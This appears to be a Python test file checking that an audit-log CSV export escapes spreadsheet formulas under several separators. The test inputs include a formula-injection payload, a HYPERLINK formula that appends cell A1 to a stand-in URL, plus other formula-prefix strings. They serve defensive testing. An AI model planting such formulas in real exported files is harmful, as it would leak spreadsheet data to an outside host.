"""`entries.csv` in spreadsheets with any separator: it matches the entries, and no cell is a formula."""

import csv
import re

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from amanah.cli.audit.export import table
from amanah.cli.audit.export.entries import LogEntry

TEXTS = st.text(st.characters(exclude_categories=["Cs"]), max_size=12) | st.text(" \"=+-@;,\t\r\n'x", max_size=12)


@settings(max_examples=40)
@given(st.lists(st.tuples(TEXTS, TEXTS), max_size=4))
def test_every_row_reads_back(tmp_path_factory: pytest.TempPathFactory, texts: list[tuple[str, str]]) -> None:
    folder = tmp_path_factory.mktemp("table", numbered=True)
    entries = [LogEntry.parse(i, orjson.dumps({"reason": a, "subject": {"id": b}})) for i, (a, b) in enumerate(texts)]
    with table.Table(folder) as written:
        for entry in entries:
            written.add(entry)
    _, *lines = table.rows(folder / table.FILE)
    assert [list(line) for line in lines] == [table.row(entry) for entry in entries]
    assert not any(cell[:1] in tuple("=+-@\t\r") and cell for line in lines for cell in line)
    read_otherwise = re.split("\r\n|\r|\n", (folder / table.FILE).read_text(encoding="utf-8-sig"))
    for parted in ";\t":
        for line in csv.reader(read_otherwise, delimiter=parted):
            assert not any(cell.lstrip(' "')[:1] in tuple("=+-@") and cell.strip(' "') for cell in line), line


@pytest.mark.parametrize(
    ("reason", "shown"),
    [
        ('cek;=HYPERLINK("http://x"&A1;"klik");', 'cek;\'=HYPERLINK("http://x"&A1;"klik");'),
        ('cek;"=1+1;', "cek;'\"=1+1;"),
        ("a\r\n+1\t@x", "a\r\n'+1\t'@x"),
        ("SK 1; 2-3, a=b", "SK 1; 2-3, a=b"),
    ],
)
def test_formulas_are_escaped_for_other_separators(reason: str, shown: str) -> None:
    assert table.row(LogEntry.parse(0, orjson.dumps({"reason": reason})))[15] == shown
